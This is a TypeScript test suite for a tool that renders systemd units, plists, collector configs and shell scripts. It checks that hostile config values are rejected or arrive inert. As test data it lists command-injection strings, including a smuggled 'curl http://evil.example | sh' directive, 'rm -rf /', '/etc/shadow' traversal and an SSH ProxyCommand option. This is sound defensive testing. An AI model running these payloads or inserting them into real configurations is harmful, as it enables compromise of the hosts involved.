/**
 * Hostile values through every config key that reaches a shell, an SSH line, a unit file, a plist,
 * a collector config, a path or a URL (README "Input safety"): each is rejected at config time with
 * the key path, the value and what is allowed, or accepted and shown to arrive inert — literally, as
 * data — in every file it is rendered into. Then each sink's escaping helper on its own, through
 * a reader of that grammar.
 */
import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import RE2 from "re2";
import YAML from "yaml";
import { describe, expect, it } from "vitest";
import { provisioningFiles } from "../src/components/grafana/grafana";
import { ConfigError, parseStackConfig, showValue } from "../src/config/index";
import type { StackModel } from "../src/config/index";
import { confmapEscape, renderGatewayConfig } from "../src/render/collector/index";
import { gatewayRenderInput } from "../src/render/collector/fromConfig";
import { environmentLine, escapeResourceValue, HOST_IP_REFERENCES, k8sEnvLiteral, planInstrumentation } from "../src/render/instrumentation/index";
import { toPlist, xmlEscape } from "../src/render/launchd/plist";
import type { ServicePlan } from "../src/render/instrumentation/index";
import { renderLaunchDaemon } from "../src/render/launchd/daemon";
import { writeFileScript } from "../src/render/scripts/host";
import { shellQuote } from "../src/render/scripts/shell";
import { renderWslPortProxy } from "../src/render/scripts/wsl";
import { envAssignment, execLine, execWord, parseExecLine, renderUnit } from "../src/render/systemd/unit";
import { toYaml } from "../src/render/yaml";
import { PROJECT_DIR, stackValues, withValue } from "./helpers/render";

const home = stackValues("home");
const k8s = stackValues("k8s");

/** What a careless or hostile stack file puts where a name, a path or a command belongs. */
const HOSTILE: readonly [what: string, value: string][] = [
  ["command substitution", "$(reboot)"],
  ["backticks", "`reboot`"],
  ["a semicolon", "x; reboot"],
  ["a lone semicolon", "x ; reboot"],
  ["a newline and a directive", "x\nExecStartPre=/bin/sh -c 'curl http://evil.example | sh'"],
  ["a carriage return", "x\rExecStartPre=/bin/true"],
  ["a double quote", 'x" "y'],
  ["a single quote", "x'y"],
  ["a backslash at the end", "x\\"],
  ["parent directories", "../../etc/shadow"],
  ["a NUL", "x\u0000y"],
  ["a fullwidth semicolon", "x\uff1breboot"],
  ["a right-to-left override", "x\u202egnp.exe"],
  ["a zero-width space", "x\u200by"],
  ["a collector variable", "${env:HOME}"],
  ["a kubelet variable", "$(HOST_IP)"],
  ["a systemd specifier", "%h"],
  ["an option", "-oProxyCommand=sh"],
];

/** One config key whose value lands in a sink. */
interface Key {
  /** Key path as messages name it (below `tracestack:`). */
  path: string;
  /** The raw stack config with `value` placed at the key. */
  place: (value: string) => Record<string, unknown>;
  /** Turns a hostile string into the value tried: inside an otherwise valid one, where the key has a shape. */
  wrap?: (hostile: string) => string;
  /** For accepted values: assert they arrive as data in every file the key is rendered into. */
  inert?: (model: StackModel, value: string) => void;
}

const at = (base: Record<string, unknown>, path: string) => (v: string) => withValue(base, path, v);
const inList = (base: Record<string, unknown>, path: string) => (v: string) => withValue(base, path, [v]);
const hostsOf = (raw: Record<string, unknown>) => (raw.target as { hosts: Record<string, unknown> }).hosts;

const existingEs = (over: Record<string, unknown>) => (v: string) => {
  const es = { mode: "existing", url: "https://es.example.com:9200", ...over };
  const key = Object.keys(over)[0];
  return withValue(k8s, "elasticsearch", { ...es, [key]: v });
};
const existingGrafana = (key: string) => (v: string) =>
  withValue(home, "grafana", { mode: "existing", url: "https://grafana.example.com", host: "danarch", [key]: v });

/** The validated model, or the problem lines of the ConfigError (each checked to be one line of its own). */
function parse(raw: Record<string, unknown>): StackModel | string[] {
  try {
    return parseStackConfig(raw, "hostile");
  } catch (e) {
    if (!(e instanceof ConfigError)) throw e;
    const [header, ...rest] = e.message.split("\n");
    expect(header).toMatch(/^Invalid tracestack configuration/);
    expect(rest.at(-1)).toMatch(/^Fix the stack file/);
    // Every problem is one line: a value can't forge a line of the report, or hide or reorder text in it.
    for (const l of rest.slice(0, -1)) expect(l.startsWith("  - tracestack:"), JSON.stringify(l)).toBe(true);
    expect(e.message).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069\ufeff]/);
    return rest.slice(0, -1);
  }
}

// ---------------------------------------------------------------------------
// Readers of each grammar, written independently of the renderers
// ---------------------------------------------------------------------------

/** systemd's reading of a quoted `Environment=` item: C escapes, then `%%` → `%`. */
function readEnvironmentItem(item: string): string {
  const inner = item.startsWith('"') ? item.slice(1, -1) : item;
  return inner
    .replace(/\\(x[0-9a-f]{2}|.)/g, (_, e: string) => (e.startsWith("x") && e.length === 3 ? String.fromCharCode(parseInt(e.slice(1), 16)) : e))
    .replace(/%%/g, "%");
}

/** The kubelet's `$(VAR)` expansion of an env value or argument (k8s.io/kubernetes third_party/forked/golang/expansion). */
function kubeletExpand(input: string, vars: Record<string, string>): string {
  let out = "";
  for (let i = 0; i < input.length; i++) {
    if (input[i] !== "$" || i + 1 >= input.length) {
      out += input[i];
      continue;
    }
    const next = input[i + 1];
    if (next === "$") {
      out += "$";
      i++;
    } else if (next === "(") {
      const end = input.indexOf(")", i + 2);
      if (end < 0) {
        out += "$(";
        i++;
        continue;
      }
      const name = input.slice(i + 2, end);
      out += name in vars ? vars[name] : `$(${name})`;
      i = end;
    } else {
      out += `$${next}`;
      i++;
    }
  }
  return out;
}

/** The collector's reading of a config string: `$$` → `$`, any other `${` is a reference (refused here). */
function readConfmap(s: string): string {
  expect(s.replace(/\$\$/g, "")).not.toMatch(/\$\{/);
  return s.replace(/\$\$/g, "$");
}

/** The `<string>` values of a flat plist dict, XML entities decoded. */
function plistStrings(xml: string): Record<string, string> {
  const out: Record<string, string> = {};
  const re = /<key>([^<]*)<\/key>\s*<string>([^<]*)<\/string>/g;
  const decode = (s: string) => s.replace(/&#13;/g, "\r").replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&");
  for (const m of xml.matchAll(re)) out[decode(m[1])] = decode(m[2]);
  return out;
}

/** What bash sees after sourcing an env file the way the wrapper does (no PATH: nothing could run). */
function sourceEnvFile(content: string, names: readonly string[]): string[] {
  const dir = mkdtempSync(join(tmpdir(), "tracestack-env-"));
  const file = join(dir, "svc.env");
  writeFileSync(file, content);
  // stdin from /dev/null: on a socket bash would think sshd started it and read ~/.bashrc.
  const r = spawnSync("/bin/bash", ["-c", 'set -a; . "$1"; set +a; shift; for n in "$@"; do printf "%s\\0" "${!n}"; done', "_", file, ...names], {
    env: { PATH: "/nonexistent" },
    encoding: "utf8",
    stdio: ["ignore", "pipe", "pipe"],
  });
  expect(r.stderr).toBe("");
  expect(r.status).toBe(0);
  return r.stdout.split("\0").slice(0, -1);
}

/** Every instrumented service's environment arrives literally through its delivery. */
function envArrivesLiteral(m: StackModel, value: string): void {
  const plans = planInstrumentation(m);
  expect(
    plans.some((p) => p.env.some(([, v]) => v.includes(value) || v.includes(escapeResourceValue(value)))),
    "the value reaches an environment",
  ).toBe(true);
  for (const p of plans) envOfPlan(p);
}

function envOfPlan(p: ServicePlan): void {
  if (p.target === "kubernetes") {
    const vars = { HOST_IP: "10.1.2.3" };
    if (p.patch) {
      const got = Object.fromEntries(p.patch.env.filter((e) => "value" in e).map((e) => [e.name as string, kubeletExpand(e.value as string, vars)]));
      // The endpoint references $(HOST_IP) on purpose; every other value arrives as written.
      for (const [k, v] of p.env) expect(got[k]).toBe(HOST_IP_REFERENCES.has(k) ? kubeletExpand(v, vars) : v);
    }
    // envFrom values are not expanded by the kubelet: the ConfigMap holds them as they are.
    if (p.configMap) for (const [k, v] of Object.entries(p.configMap.data)) expect(p.env).toContainEqual([k, v]);
    return;
  }
  const d = p.delivery;
  switch (d.kind) {
    case "systemd-dropin": {
      const lines = d.content.split("\n").filter((l) => l.startsWith("Environment="));
      expect(lines.map((l) => readEnvironmentItem(l.slice("Environment=".length)))).toEqual(p.env.map(([k, v]) => `${k}=${v}`));
      expect(d.content).not.toMatch(/\r|\u0000/);
      return;
    }
    case "env-file":
      expect(
        sourceEnvFile(
          d.content,
          p.env.map(([k]) => k),
        ),
      ).toEqual(p.env.map(([, v]) => v));
      return;
    case "launchd-plist":
      for (const [k, v] of p.env) expect(plistStrings(d.content)[k]).toBe(v);
      return;
  }
}

/** The honcho-server drop-in: one `[Service]`, its Environment= lines and the wrapped ExecStart, nothing else. */
function execStartArrivesVerbatim(m: StackModel, value: string): void {
  const plans = planInstrumentation(m);
  const p = plans.find((x) => x.name === "honcho-server");
  if (!p || p.target !== "hosts") throw new Error("no honcho-server plan");
  const lines = p.delivery.content.split("\n").filter((l) => l !== "" && !l.startsWith("#"));
  expect(lines.filter((l) => !/^(Environment|ExecStart)=/.test(l))).toEqual(["[Service]"]);
  const exec = lines.filter((l) => l.startsWith("ExecStart="));
  expect(exec).toEqual(["ExecStart=", `ExecStart=/opt/honcho/.venv/bin/opentelemetry-instrument ${value}`]);
  // systemd reads one command line: the launcher, then the service's own words (no shell runs them).
  const argv = parseExecLine(exec[1].slice("ExecStart=".length));
  if ("error" in argv) throw new Error(argv.error);
  expect(argv.words[0]).toBe("/opt/honcho/.venv/bin/opentelemetry-instrument");
  expect(argv.words).not.toContain(";");
}

/** The gateway's config as the collector reads it (YAML, then `$$` → `$`). */
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- a parsed YAML tree
function gatewayConfig(m: StackModel): { processors: Record<string, any> } {
  const input = gatewayRenderInput(m.collector, { environment: m.environment, target: m.target, jaegerOtlpEndpoint: "jaeger:4317" });
  return YAML.parse(toYaml(renderGatewayConfig(input)));
}

function gatewayPatterns(m: StackModel): { keys: string[]; values: string[] } {
  const r = gatewayConfig(m).processors.redaction as { blocked_key_patterns: string[]; blocked_values: string[] };
  return { keys: r.blocked_key_patterns.map(readConfmap), values: r.blocked_values.map(readConfmap) };
}

function dashboardExprs(m: StackModel): string[] {
  const files = provisioningFiles(
    m,
    m.grafana,
    { jaeger: "http://j:16686", prometheus: "http://p:9090", elasticsearch: "http://e:9200" },
    "elastic",
    { env: "ES_PW" },
    "/d",
  );
  const out: string[] = [];
  const walk = (v: unknown): void => {
    if (Array.isArray(v)) v.forEach(walk);
    else if (v && typeof v === "object") {
      for (const [k, x] of Object.entries(v)) {
        if (k === "expr" && typeof x === "string") out.push(x);
        else walk(x);
      }
    }
  };
  walk(JSON.parse(files.dashboard));
  return out;
}

// ---------------------------------------------------------------------------
// The keys
// ---------------------------------------------------------------------------

const KEYS: readonly Key[] = [
  // The hosts target: SSH lines, scripts, drift probes.
  { path: "target.hosts", place: (v) => withValue(home, "target.hosts", { ...hostsOf(home), [v]: hostsOf(home).danwin }) },
  { path: "target.hosts.danarch.address", place: at(home, "target.hosts.danarch.address"), wrap: (h) => `danarch.lan${h}` },
  { path: "target.hosts.danarch.address", place: at(home, "target.hosts.danarch.address") },
  { path: "target.ssh.user", place: at(home, "target.ssh.user"), wrap: (h) => `dan${h}` },
  { path: "target.hosts.danarch.user", place: at(home, "target.hosts.danarch.user") },
  { path: "target.hosts.danarch.hostKey", place: at(home, "target.hosts.danarch.hostKey"), wrap: (h) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5${h}` },
  { path: "target.hosts.danarch.gpu", place: at(home, "target.hosts.danarch.gpu"), wrap: (h) => `NVIDIA ${h}`, inert: envArrivesLiteral },
  // Versions: image tags, release URLs, install directories, unit descriptions.
  { path: "elasticsearch.version", place: at(home, "elasticsearch.version"), wrap: (h) => `8.19.0${h}` },
  { path: "jaeger.version", place: at(home, "jaeger.version"), wrap: (h) => `2.20.0${h}` },
  { path: "collector.version", place: at(home, "collector.version"), wrap: (h) => `0.159.0${h}` },
  { path: "grafana.version", place: at(home, "grafana.version"), wrap: (h) => `12.3.1${h}` },
  { path: "prometheus.version", place: at(home, "prometheus.version"), wrap: (h) => `3.7.3${h}` },
  // Names in paths, scripts and index names.
  { path: "environment", place: at(home, "environment"), wrap: (h) => `home${h}` },
  { path: "jaeger.indexPrefix", place: at(home, "jaeger.indexPrefix"), wrap: (h) => `home${h}` },
  { path: "lifecycle.policyName", place: at(home, "lifecycle.policyName"), wrap: (h) => `p${h}` },
  { path: "jaeger.host", place: at(home, "jaeger.host") },
  { path: "collector.gateway.host", place: at(home, "collector.gateway.host") },
  // URLs curl downloads from, and the ones Jaeger, Grafana and the bootstrap reach.
  { path: "jaeger.release.baseUrl", place: at(home, "jaeger.release.baseUrl"), wrap: (h) => `https://mirror.example.com/${h}` },
  { path: "collector.release.baseUrl", place: at(home, "collector.release.baseUrl"), wrap: (h) => `https://mirror.example.com/${h}` },
  { path: "elasticsearch.url", place: existingEs({ url: "" }), wrap: (h) => `https://es.example.com:9200/${h}` },
  { path: "elasticsearch.url", place: existingEs({ url: "" }), wrap: (h) => `https://${h}:9200` },
  { path: "elasticsearch.username", place: existingEs({ username: "" }) },
  { path: "elasticsearch.caFile", place: existingEs({ caFile: "" }), wrap: (h) => `/etc/ssl/${h}` },
  { path: "grafana.url", place: existingGrafana("url"), wrap: (h) => `https://grafana.example.com/${h}` },
  { path: "grafana.provisioningDir", place: existingGrafana("provisioningDir"), wrap: (h) => `/etc/grafana/${h}` },
  { path: "grafana.dashboardsDir", place: existingGrafana("dashboardsDir"), wrap: (h) => `/var/lib/grafana/${h}` },
  { path: "grafana.loki.url", place: at(home, "grafana.loki.url"), wrap: (h) => `http://loki:3100/${h}` },
  { path: "prometheus.url", place: (v) => withValue(home, "prometheus", { mode: "existing", url: v }), wrap: (h) => `http://prometheus:9090/${h}` },
  { path: "grafana.listenAddress", place: at(home, "grafana.listenAddress"), wrap: (h) => `127.0.0.1${h}` },
  { path: "grafana.dashboards.folder", place: at(home, "grafana.dashboards.folder"), wrap: (h) => `Tracing${h}` },
  { path: "grafana.dashboards.inferenceSpanNames", place: at(home, "grafana.dashboards.inferenceSpanNames"), wrap: (h) => `chat${h}`, inert: promRegexInert },
  { path: "grafana.dashboards.inferenceServices", place: at(home, "grafana.dashboards.inferenceServices"), inert: promRegexInert },
  // Bind addresses (collector and Jaeger YAML, Docker port bindings) and the TLS directory (read on the deployer's machine).
  { path: "target.hosts.danarch.listenAddress", place: at(home, "target.hosts.danarch.listenAddress"), wrap: (h) => `192.168.1.10${h}` },
  { path: "jaeger.listenAddress", place: at(home, "jaeger.listenAddress"), wrap: (h) => `0.0.0.0${h}` },
  { path: "tls.dir", place: (v) => withValue(home, "tls", { mode: "given", dir: v }), wrap: (h) => `certs/${h}` },
  { path: "tls.dir", place: (v) => withValue(home, "tls", { mode: "given", dir: v }) },
  // The collector: YAML with `${…}` resolution, RE2 patterns.
  { path: "collector.gateway.queue.directory", place: at(home, "collector.gateway.queue.directory"), wrap: (h) => `/var/lib/otelcol/${h}` },
  {
    path: "collector.sampling.toolStatusKeep[0]",
    place: inList(home, "collector.sampling.toolStatusKeep"),
    wrap: (h) => `timeout${h}`,
    inert: (m, v) => {
      const policies = (gatewayConfig(m).processors.tail_sampling as { policies: { string_attribute?: { key: string; values: string[] } }[] }).policies;
      const p = policies.find((x) => x.string_attribute?.key === "tool.status");
      expect(p?.string_attribute?.values.map(readConfmap)).toEqual([v]);
    },
  },
  {
    path: "collector.redaction.extraBlockedKeys[0]",
    place: inList(home, "collector.redaction.extraBlockedKeys"),
    wrap: (h) => `x-ticket${h}`,
    inert: (m, v) => {
      const key = gatewayPatterns(m).keys.at(-1)!;
      expect(new RE2(key).test(v)).toBe(true);
      expect(new RE2(key).test(`${v}x`)).toBe(false);
      expect(new RE2(key).test(`x${v}`)).toBe(false);
    },
  },
  {
    path: "collector.redaction.extraBlockedValuePatterns[0]",
    place: inList(home, "collector.redaction.extraBlockedValuePatterns"),
    inert: (m, v) => {
      expect(gatewayPatterns(m).values.at(-1)).toBe(v);
      expect(() => new RE2(v)).not.toThrow();
    },
  },
  // Instrumentation on hosts: drop-ins, env files, launchd plists, systemctl arguments.
  {
    path: "instrumentation.services",
    place: (v) =>
      withValue(home, "instrumentation.services", {
        ...(home.instrumentation as { services: object }).services,
        [v]: { kind: "client", placement: { host: "dans-mac-mini", envFile: true } },
      }),
  },
  {
    path: "instrumentation.services.embeddings.placement.unit",
    place: at(home, "instrumentation.services.embeddings.placement.unit"),
    wrap: (h) => `nomic${h}`,
  },
  { path: "instrumentation.services.embeddings.placement.unit", place: at(home, "instrumentation.services.embeddings.placement.unit") },
  {
    path: "instrumentation.services.honcho-server.wrapExecStart.command",
    place: at(home, "instrumentation.services.honcho-server.wrapExecStart.command"),
    wrap: (h) => `/opt/honcho/.venv/bin/fastapi run ${h}`,
    inert: execStartArrivesVerbatim,
  },
  {
    path: "instrumentation.services.honcho-server.wrapExecStart.command",
    place: at(home, "instrumentation.services.honcho-server.wrapExecStart.command"),
    inert: execStartArrivesVerbatim,
  },
  {
    path: "instrumentation.services.honcho-server.wrapExecStart.instrument",
    place: at(home, "instrumentation.services.honcho-server.wrapExecStart.instrument"),
    wrap: (h) => `/opt/honcho/.venv/bin/${h}`,
  },
  {
    path: "instrumentation.services.honcho-server.wrapExecStart.instrument",
    place: at(home, "instrumentation.services.honcho-server.wrapExecStart.instrument"),
  },
  {
    path: "instrumentation.services.hermes.placement.envFile",
    place: at(home, "instrumentation.services.hermes.placement.envFile"),
    wrap: (h) => `/Users/dan/.config/${h}`,
  },
  {
    path: "instrumentation.services.hermes.placement.launchd.label",
    place: (v) => withValue(home, "instrumentation.services.hermes.placement", { host: "dans-mac-mini", launchd: { label: v } }),
    wrap: (h) => `ai.hermes${h}`,
  },
  {
    path: "instrumentation.services.hermes.placement.launchd.plist",
    place: (v) => withValue(home, "instrumentation.services.hermes.placement", { host: "dans-mac-mini", launchd: { label: "ai.hermes", plist: v } }),
    wrap: (h) => `/Users/dan/Library/LaunchAgents/${h}`,
  },
  {
    path: "instrumentation.services.honcho-server.healthPaths[0]",
    place: inList(home, "instrumentation.services.honcho-server.healthPaths"),
    wrap: (h) => `/health${h}`,
    inert: envArrivesLiteral,
  },
  { path: "instrumentation.sanitizeHeaders[0]", place: inList(home, "instrumentation.sanitizeHeaders"), wrap: (h) => `x-${h}`, inert: envArrivesLiteral },
  {
    path: "instrumentation.services.embeddings.gpu",
    place: at(home, "instrumentation.services.embeddings.gpu"),
    wrap: (h) => `NVIDIA ${h}`,
    inert: envArrivesLiteral,
  },
  { path: "instrumentation.serviceNamespace", place: at(home, "instrumentation.serviceNamespace"), wrap: (h) => `ts${h}` },
  { path: "instrumentation.hosts", place: (v) => withValue(home, "instrumentation.hosts", { [v]: { dcgmExporter: { port: 9400 } } }) },
  // The Kubernetes target: provider settings, object names, container args and env.
  { path: "target.namespace", place: at(k8s, "target.namespace") },
  { path: "target.context", place: at(k8s, "target.context") },
  { path: "target.kubeconfigPath", place: at(k8s, "target.kubeconfigPath"), wrap: (h) => `/home/dan/.kube/${h}` },
  { path: "target.storageClass", place: at(k8s, "target.storageClass"), wrap: (h) => `gp3${h}` },
  { path: "target.ingress.className", place: at(k8s, "target.ingress.className"), wrap: (h) => `nginx${h}` },
  { path: "target.ingress.jaeger.host", place: at(k8s, "target.ingress.jaeger.host"), wrap: (h) => `jaeger.example.internal${h}` },
  {
    path: "instrumentation.services.honcho.placement.deployment",
    place: at(k8s, "instrumentation.services.honcho.placement.deployment"),
    wrap: (h) => `honcho${h}`,
  },

  { path: "instrumentation.sanitizeHeaders[0]", place: inList(k8s, "instrumentation.sanitizeHeaders"), wrap: (h) => `x-${h}`, inert: envArrivesLiteral },
  {
    path: "instrumentation.services.honcho.healthPaths[0]",
    place: inList(k8s, "instrumentation.services.honcho.healthPaths"),
    wrap: (h) => `/health${h}`,
    inert: envArrivesLiteral,
  },
  { path: "instrumentation.services.vllm.gpu", place: at(k8s, "instrumentation.services.vllm.gpu"), wrap: (h) => `NVIDIA H100 ${h}`, inert: envArrivesLiteral },
  {
    path: "instrumentation.dcgmExporter.image",
    place: at(k8s, "instrumentation.dcgmExporter.image"),
    wrap: (h) => `nvcr.io/nvidia/k8s/dcgm-exporter:4.2.3-4.1.3-ubuntu22.04${h}`,
  },
];

function promRegexInert(m: StackModel, value: string): void {
  // A backtick raw string in PromQL: nothing in it is special to PromQL; `$` and '`' are refused.
  const exprs = dashboardExprs(m);
  expect(exprs.some((e) => e.includes(`\`${value}\``))).toBe(true);
  expect(() => new RE2(`^(?:${value})$`)).not.toThrow();
}

describe("hostile values in every key that reaches a sink", () => {
  const cases = KEYS.flatMap((k) => HOSTILE.map(([what, h]) => [k.path, what, k, (k.wrap ?? ((x: string) => x))(h)] as const));

  it.each(cases)("%s: %s is rejected with the key, the value and what is allowed, or arrives inert", (_path, _what, key, value) => {
    const r = parse(key.place(value));
    if (Array.isArray(r)) {
      const recordKey = ["target.hosts", "instrumentation.services", "instrumentation.hosts"].includes(key.path);
      const line = r.find((l) => l.startsWith(`  - tracestack:${key.path}`));
      expect(line, `problems were:\n${r.join("\n")}`).toBeDefined();
      expect(line).toContain(recordKey ? `the name ${showValue(value).slice(0, 30)}` : showValue(value).slice(0, 30));
      expect(line).toMatch(/allowed: \S/);
      // The message itself is safe to print: one line, no invisible or direction-changing character.
      expect(line).not.toMatch(/[\u0000-\u001f\u007f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/);
      return;
    }
    expect(key.inert, `${key.path} accepted ${JSON.stringify(value)} and has no sink check`).toBeDefined();
    key.inert!(r, value);
  });

  it("covers every key above with every hostile value", () => {
    expect(cases.length).toBe(KEYS.length * HOSTILE.length);
  });
});

describe("the issue's case: a newline in wrapExecStart.command", () => {
  const value = "/opt/honcho/.venv/bin/fastapi run src/main.py\nExecStartPre=/bin/sh -c 'curl http://evil.example | sh'";

  it("is refused at config time with the key, the value and what is allowed", () => {
    const r = parse(withValue(home, "instrumentation.services.honcho-server.wrapExecStart.command", value));
    expect(r).toEqual([
      `  - tracestack:instrumentation.services.honcho-server.wrapExecStart.command: ${showValue(value)} holds a newline (U+000A) at character 46; allowed: one systemd command line (no newline or control character, no lone ';', quotes around whole words only, no trailing '\\'), such as /opt/app/.venv/bin/python -m app --port 8000`,
    ]);
  });

  it("fails the real program before any resource is registered: the render exits 1 and writes nothing", () => {
    const dir = mkdtempSync(join(tmpdir(), "tracestack-hostile-"));
    const file = join(dir, "Pulumi.hostile.yaml");
    const raw = withValue(home, "instrumentation.services.honcho-server.wrapExecStart.command", value);
    writeFileSync(file, YAML.stringify({ config: Object.fromEntries(Object.entries(raw).map(([k, v]) => [`tracestack:${k}`, v])) }));
    const res = spawnSync(
      "node",
      ["--require", "ts-node/register/transpile-only", "tools/render.ts", "--stack", "hostile", "--stack-file", file, "--out", join(dir, "out")],
      {
        cwd: PROJECT_DIR,
        encoding: "utf8",
      },
    );
    expect(res.status).toBe(1);
    expect(res.stderr).toContain("tracestack:instrumentation.services.honcho-server.wrapExecStart.command: ");
    expect(res.stderr).toContain("holds a newline (U+000A)");
    expect(existsSync(join(dir, "out"))).toBe(false);
  });

  it("can't reach a unit file even past the config: the renderer throws on a raw newline in any value", () => {
    expect(() => renderUnit([["Service", [["ExecStart", value]]]])).toThrow(/control character in the value of ExecStart=/);
    expect(() => renderUnit([["Service", [["Environment", "A=1\rB=2"]]]])).toThrow(/control character/);
    expect(() => renderUnit([["Service", [["Environment", "A=1\u0000"]]]])).toThrow(/control character/);
    expect(() => renderUnit([["Service", [["Description", "x \\"]]]])).toThrow(/trailing backslash/);
    expect(() => renderUnit([["Service", [["Exec\nStart", "x"]]]])).toThrow(/not a directive name/);
    expect(() => renderUnit([["Service]\n[Unit", []]])).toThrow(/not a section name/);
    expect(renderUnit([["Service", [["Description", "x \\\\"]]]])).toBe("[Service]\nDescription=x \\\\\n");
  });
});

// ---------------------------------------------------------------------------
// Each sink's helper through a reader of its grammar
// ---------------------------------------------------------------------------

const SINK_VALUES = [
  ...HOSTILE.map(([, v]) => v).filter((v) => !v.includes("\0")),
  "",
  "a b",
  "tab\there",
  "é ü 中文",
  "\\",
  '"',
  "'",
  "$",
  "%",
  "$$",
  "%%",
  "a=b",
  "--x",
];

describe("sinks: shell words (shellQuote)", () => {
  it.each(SINK_VALUES)("%j arrives literally in bash and sh", (v) => {
    for (const sh of ["/bin/bash", "/bin/sh"]) {
      const r = spawnSync(sh, ["-c", `printf '%s' ${shellQuote(v)}`], { env: { PATH: "/usr/bin:/bin" }, encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
      expect(r.stderr).toBe("");
      expect(r.stdout).toBe(v);
    }
  });

  it("refuses NUL", () => expect(() => shellQuote("a\u0000b")).toThrow(/NUL/));
});

describe("sinks: systemd ExecStart= arguments (execWord)", () => {
  it.each(SINK_VALUES)("%j reads back as one argv word, on one line", (v) => {
    const w = execWord(v);
    expect(w).not.toMatch(/[\n\r]/);
    const parsed = parseExecLine(`/bin/echo ${w}`);
    if ("error" in parsed) throw new Error(`${parsed.error} at ${parsed.position}`);
    // systemd then expands specifiers (%%→%) and variables ($$→$): what reaches argv is the value.
    expect(parsed.words.map((x) => x.replace(/%%/g, "%").replace(/\$\$/g, "$"))).toEqual(["/bin/echo", v]);
    expect(() => renderUnit([["Service", [["ExecStart", `/bin/echo ${w}`]]]])).not.toThrow();
  });

  it("quotes specifiers and variables, which systemd would otherwise expand", () => {
    expect(execWord("%h")).toBe('"%%h"');
    expect(execWord("$HOME")).toBe('"$$HOME"');
    expect(execWord("--config=/etc/tracestack/x.yaml")).toBe("--config=/etc/tracestack/x.yaml");
  });

  it("refuses NUL, and an executable systemd would read as a prefix", () => {
    expect(() => execWord("a\u0000")).toThrow(/NUL/);
    expect(() => execLine(["-/bin/true"])).toThrow(/executable/);
    expect(() => execLine(["+/bin/sh", "-c", "x"])).toThrow(/executable/);
    expect(execLine(["/opt/x/bin/jaeger", "--config", "/etc/a b.yaml"])).toBe('/opt/x/bin/jaeger --config "/etc/a b.yaml"');
  });

  it.each([
    ["x\nExecStartPre=/bin/true", "a control character"],
    ["x ; rm -rf /", 'a lone ";"'],
    ['x "unterminated', "an unterminated"],
    ['x a"b"', "inside a word"],
    ['x "a"b', "followed by more of the word"],
    ["x \\", "a trailing backslash"],
    ["x \\q", "the unknown escape"],
    ["x %Z", "the unknown specifier"],
    ["x \\x00", "no character an argument may hold"],
    ["", "no command"],
  ])("parseExecLine refuses %j (%s)", (line, why) => {
    const r = parseExecLine(line);
    expect("error" in r && r.error).toContain(why);
  });

  it.each([
    ["/opt/app/bin/python -m app --port 8000", ["/opt/app/bin/python", "-m", "app", "--port", "8000"]],
    ["/bin/app \"a b\" 'c d' e\\;f \\;", ["/bin/app", "a b", "c d", "e;f", ";"]],
    ["/bin/app %i $MAINPID ${X}", ["/bin/app", "%i", "$MAINPID", "${X}"]],
    ['/bin/app "tab\\there" \\x41', ["/bin/app", "tab\there", "A"]],
  ])("parseExecLine reads %j as systemd does", (line, words) => {
    expect(parseExecLine(line)).toEqual({ words });
  });
});

describe("sinks: systemd Environment= (envAssignment)", () => {
  it.each(SINK_VALUES)("%j reads back as the value, on one line", (v) => {
    for (const quote of ["always", "auto"] as const) {
      const item = envAssignment("VAR", v, { quote });
      expect(item).not.toMatch(/[\n\r]/);
      expect(readEnvironmentItem(item)).toBe(`VAR=${v}`);
      expect(() => renderUnit([["Service", [["Environment", item]]]])).not.toThrow();
    }
    expect(environmentLine("VAR", v)).toBe(envAssignment("VAR", v, { quote: "always" }));
  });

  it("writes what the hosts target's units hold today byte for byte (execWord then, envAssignment and execLine now)", () => {
    expect(envAssignment("GOMEMLIMIT", "1638MiB")).toBe(execWord("GOMEMLIMIT=1638MiB"));
    const argv = ["/opt/tracestack/jaeger/2.20.0/jaeger", "--config", "/etc/tracestack/jaeger/config.yaml"];
    expect(execLine(argv)).toBe(argv.map(execWord).join(" "));
  });

  it("refuses a bad name and NUL", () => {
    expect(() => envAssignment("A B", "x")).toThrow(/not an environment variable name/);
    expect(() => envAssignment("A\nB", "x")).toThrow(/not an environment variable name/);
    expect(() => envAssignment("A", "x\u0000")).toThrow(/NUL/);
  });
});

describe("sinks: property lists (xmlEscape, toPlist)", () => {
  it.each(SINK_VALUES.filter((v) => !/[\u0001-\u0008\u000b\u000c\u000e-\u001f]/.test(v)))("%j reads back from the plist", (v) => {
    const xml = toPlist({ EnvironmentVariables: { VAR: v }, Label: "dev.tracestack.x" });
    expect(plistStrings(xml).VAR).toBe(v);
    expect(xml.split("\n").filter((l) => l.includes("<string>") && !l.includes("</string>")).length).toBe(v.includes("\n") ? 1 : 0);
  });

  it("refuses what XML cannot hold", () => {
    for (const v of ["\u0000", "\u0007", "\ud800", "\uffff"]) expect(() => xmlEscape(v)).toThrow(/XML/);
    expect(() =>
      renderLaunchDaemon({
        label: "x",
        program: ["/bin/x", "a\u0001"],
        env: {},
        user: "nobody",
        group: "nobody",
        workingDirectory: "/",
        logPath: "/l",
        maxOpenFiles: 1,
      }),
    ).toThrow(/XML/);
  });
});

describe("sinks: collector and Jaeger configs (confmapEscape)", () => {
  it.each(SINK_VALUES)("%j is no reference for the resolver and reads back", (v) => {
    expect(readConfmap(confmapEscape(v))).toBe(v);
  });
});

describe("sinks: Kubernetes env values (k8sEnvLiteral)", () => {
  it.each(SINK_VALUES)("%j survives the kubelet's $(VAR) expansion", (v) => {
    expect(kubeletExpand(k8sEnvLiteral(v), { HOST_IP: "10.1.2.3", HOME: "/root", reboot: "boom" })).toBe(v);
  });
});

describe("sinks: paths in scripts, the PowerShell note", () => {
  it.each(["relative/path", "/etc/../shadow", "/etc/./x", "/etc/x\ny"])("writeFileScript refuses %j", (path) => {
    expect(() => writeFileScript({ path, owner: "root", group: "root", mode: "0644" })).toThrow(/absolute path/);
  });

  it("renderWslPortProxy refuses a host or address that could end its comment line", () => {
    expect(() => renderWslPortProxy("danwin", "danwin.lan\nRemove-Item C:\\", [])).toThrow(/not a host name or address/);
  });
});
